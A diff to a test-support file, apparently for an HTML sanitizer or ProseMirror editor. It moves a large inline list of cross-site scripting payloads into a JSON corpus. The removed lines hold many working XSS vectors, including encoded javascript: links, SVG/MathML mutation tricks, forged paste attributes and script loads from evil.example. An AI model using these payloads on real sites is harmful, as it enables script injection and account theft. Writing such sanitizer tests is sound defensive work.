@@ -1,171 +1,20 @@
-/** HTML that runs a script, or leads to one, where a filter is careless. Each calls `pwn()`. */
-const links = [
-  "javascript:pwn()",
-  "JaVaScRiPt:pwn()",
-  " javascript:pwn()",
-  "\u0001javascript:pwn()",
-  "java\tscript:pwn()",
-  "java\nscript:pwn()",
-  "java\rscript:pwn()",
-  "java&#x09;script:pwn()",
-  "java&Tab;script:pwn()",
-  "java&NewLine;script:pwn()",
-  "javascript&colon;pwn()",
-  "javascript&#58;pwn()",
-  "&#106;avascript:pwn()",
-  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;pwn()",
-  "javascript://example.org/%0Apwn()",
-  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='pwn()'>",
-  "vbscript:pwn()",
-  "data:text/html,<script>pwn()</script>",
-  "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
-  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>",
-  "blob:https://example.org/1",
-  "file:///etc/passwd",
-  "//evil.example",
-  "\\\\evil.example",
-  "/\\evil.example",
-  "/\t/evil.example",
-  "view-source:javascript:pwn()",
-  "feed:javascript:pwn()",
-  "livescript:pwn()",
-  "mocha:pwn()",
-  "jar:javascript:pwn()",
-  "intent:#Intent;S.browser_fallback_url=javascript:pwn();end",
-].map((href) => `<a href="${href}">x</a>`)
+import { readFileSync } from "node:fs"
+import { join } from "node:path"
+import * as v from "valibot"
 
-const handlers =
-  "onclick onload onerror onmouseover onfocus onblur oncopy onpaste ondrop ontoggle onanimationstart onpointerenter onbeforeinput oninput onscroll onwheel"
-    .split(" ")
-    .flatMap((name) => [`<p ${name}="pwn()">x</p>`, `<img src="/sites/default/files/a.jpg" ${name}=pwn()>`])
+const file = join("__tests__", "support", "attacks", "corpus.json")
 
-const elements = [
-  "<script>pwn()</script>",
-  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-  "<scr<script>ipt>pwn()</scr</script>ipt>",
-  "<script/x>pwn()</script>",
-  "<script\n>pwn()</script\n>",
-  "<<script>pwn();//<</script>",
-  "<svg onload=pwn()>",
-  "<svg><script>pwn()</script></svg>",
-  "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
-  "<svg><a xlink:href='javascript:pwn()'><text x=20 y=20>x</text></a></svg>",
-  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=pwn() /></svg>#x'></use></svg>",
-  "<svg><foreignObject><iframe srcdoc='<script>pwn()</script>'></iframe></foreignObject></svg>",
-  '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
-  "<svg><p><style><!--</style><img src=x onerror=pwn()>--></style>",
-  "<svg><desc><![CDATA[</desc><script>pwn()</script>]]></svg>",
-  "<math><mi//xlink:href='data:x,<script>pwn()</script>'>",
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
-  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
-  "<math><annotation-xml encoding='text/html'><script>pwn()</script></annotation-xml></math>",
-  "<iframe src='javascript:pwn()'></iframe>",
-  "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
-  "<object data='javascript:pwn()'></object>",
-  "<object type='text/x-scriptlet' data='https://evil.example/x'></object>",
-  "<embed src='javascript:pwn()'>",
-  "<applet code=x></applet>",
-  "<frameset onload=pwn()><frame src='javascript:pwn()'></frameset>",
-  "<base href='javascript:pwn()//'>",
-  "<link rel=stylesheet href='javascript:pwn()'>",
-  "<link rel=import href='https://evil.example'>",
-  "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
-  "<style>@import 'javascript:pwn()';</style>",
-  "<style>*{background:url(javascript:pwn())}</style>",
-  "<p style='background:url(javascript:pwn())'>x</p>",
-  "<p style='width:expression(pwn())'>x</p>",
-  "<p style='-moz-binding:url(https://evil.example/x.xml#x)'>x</p>",
-  "<div style='position:fixed;inset:0'>x</div>",
-  "<input autofocus onfocus=pwn()>",
-  "<input type=image src=x onerror=pwn()>",
-  "<textarea autofocus onfocus=pwn()>x</textarea>",
-  "<select autofocus onfocus=pwn()><option>x</select>",
-  "<keygen autofocus onfocus=pwn()>",
-  "<button formaction='javascript:pwn()'>x</button>",
-  "<form action='javascript:pwn()'><input type=submit></form>",
-  "<isindex action='javascript:pwn()'>",
-  "<details open ontoggle=pwn()><summary>x</summary></details>",
-  "<video><source onerror=pwn()></video>",
-  "<video poster='javascript:pwn()'></video>",
-  "<audio src=x onerror=pwn()></audio>",
-  "<marquee onstart=pwn()>x</marquee>",
-  "<body onload=pwn()>x</body>",
-  "<html onmouseover=pwn()>x</html>",
-  "<template><img src=x onerror=pwn()></template>",
-  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
-  '<textarea><p title="</textarea><img src=x onerror=pwn()>">',
-  '<title><a title="</title><img src=x onerror=pwn()>">',
-  '<xmp><p title="</xmp><img src=x onerror=pwn()>">',
-  '<noembed><img title="</noembed><img src onerror=pwn()>"></noembed>',
-  "<plaintext><img src=x onerror=pwn()>",
-  "<listing>&lt;img onerror=pwn() src=x&gt;</listing>",
-  "<!--><img src=x onerror=pwn()>-->",
-  "<!--[if gte IE 4]><script>pwn()</script><![endif]-->",
-  "<? <img src=x onerror=pwn()> ?>",
-  "<![CDATA[<img src=x onerror=pwn()>]]>",
-  "<a <img src=x onerror=pwn()>>x</a>",
-  "<custom-element onclick=pwn() is=x>x</custom-element>",
-  "<dialog open onclose=pwn()>x</dialog>",
-  "<portal src='javascript:pwn()'></portal>",
-  "<bgsound src='javascript:pwn()'>",
-  "<layer src='https://evil.example/x.js'></layer>",
-  "<xml id=x><a><b><script>pwn()</script></b></a></xml>",
-  "<a href='/x/' target=_blank ping='https://evil.example' download>x</a>",
-  "<p id='gatsby-focus-wrapper'>x</p><h2 id='___gatsby'>x</h2><h3 id='gatsby-x'>x</h3>",
-  "<a id='a' name='cookie'>x</a><img name=forms src='/sites/default/files/a.jpg'>",
-]
+/**
+ * Texts by kind that run a script, or lead to one, where a filter is careless. Each calls `pwn()` or another function that the tests watch,
+ * or asks `evil.example` for something.
+ */
+export const corpus = v.parse(v.record(v.string(), v.array(v.string())), JSON.parse(readFileSync(file, "utf8")))
 
-const pictures = [
-  "<img src=x onerror=pwn()>",
-  "<img src=x:pwn() onerror=eval(src)>",
-  '<IMG """><SCRIPT>pwn()</SCRIPT>"\\>',
-  "<img/src='x'/onerror='pwn()'>",
-  "<img src='javascript:pwn()'>",
-  "<img dynsrc='javascript:pwn()'>",
-  "<img lowsrc='javascript:pwn()'>",
-  "<img srcset='x' onerror=pwn()>",
-  "<image src=x onerror=pwn()>",
-  "<img src='https://evil.example/a.jpg'>",
-  "<img src='//evil.example/sites/default/files/a.jpg'>",
-  "<img src='/sites/default/files/../../x.jpg'>",
-  "<img src='/sites/default/files/%2e%2e/x.jpg'>",
-  "<img src='/sites/default/files/a.jpg?x'>",
-  "<img src='/sites/default/files/a.jpg' alt='\"><script>pwn()</script>'>",
-  "<img src='/sites/default/files/a.jpg\" onerror=\"pwn()'>",
-  "<img src='/sites/default/files/a.jpg' width='1\" onerror=\"pwn()' height='-1'>",
-  "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bigpIi8+'>",
-  "<figure><img src=x onerror=pwn()><figcaption><script>pwn()</script>x</figcaption></figure>",
-  "<picture><source srcset='x' onerror=pwn()><img src=x onerror=pwn()></picture>",
-]
+export const addresses: readonly string[] = corpus.addresses ?? []
 
-// ProseMirror takes nodes with attributes from this attribute of pasted HTML, past all rules for elements.
-const slice = (context: unknown) => `<p data-pm-slice="0 0 ${JSON.stringify(context).replaceAll('"', "&quot;")}">x</p>`
-const forged = [
-  slice(["kept", { html: "<img src=x onerror=pwn()><script>pwn()</script>" }]),
-  slice(["blockquote", {}, "kept", { html: "<svg onload=pwn()>" }]),
-  slice(["figure", { src: "javascript:pwn()", alt: '"><script>pwn()</script>', width: '1" onload="pwn()' }]),
-  slice(["heading", { level: "2 onclick=pwn()", id: '"><script>pwn()</script>' }]),
-  slice(["bulletList", {}, "listItem", { id: 'x" onclick="pwn()' }]),
-  slice(["table", { caption: "<script>pwn()</script>" }, "tableRow", {}, "tableHeader", { scope: '"><img src=x onerror=pwn()>' }]),
-  slice(["__proto__", {}]),
-  slice(["doc", {}]),
-  '<p data-pm-slice="0 0 [not json">x</p>',
-  `<p data-pm-slice="0 0 []"><a href="javascript:pwn()">x</a><span lang='"><script>pwn()</script>'>y</span></p>`,
-  `<p data-pm-slice="0 0 []"><sup><a href="#&quot;><script>pwn()</script>" id="a b">1</a></sup></p>`,
-]
+/** The corpus as HTML: addresses stand in links. */
+export const attacksByKind: readonly (readonly [kind: string, attacks: readonly string[]])[] = Object.entries(corpus).map(
+  ([kind, texts]) => [kind, kind === "addresses" ? texts.map((href) => `<a href="${href}">x</a>`) : texts] as const,
+)
 
-const words = [
-  "<p>&lt;script&gt;pwn()&lt;/script&gt;</p>",
-  "<p>&amp;lt;img src=x onerror=pwn()&amp;gt;</p>",
-  "<span lang='\" onmouseover=\"pwn()'>x</span>",
-  "<span lang=nl onclick=pwn()>x</span>",
-  "<table><caption>&lt;script&gt;pwn()&lt;/script&gt;</caption><tr><td onclick=pwn()>x</td></tr></table>",
-  "<table background='javascript:pwn()'><tr><td background='javascript:pwn()'>x</td></tr></table>",
-  "<table><td><p><table><td><svg onload=pwn()>",
-  "<ul><li id='x\" onclick=\"pwn()'>x</li></ul>",
-  "<blockquote cite='javascript:pwn()'>x</blockquote>",
-  "<p\x0conclick=pwn()>x",
-  "<constructor><__proto__><p constructor=x __proto__=y>x</constructor>",
-]
-
-export const attacks: readonly string[] = [...links, ...handlers, ...elements, ...pictures, ...forged, ...words]
+export const attacks: readonly string[] = attacksByKind.flatMap(([, texts]) => texts)
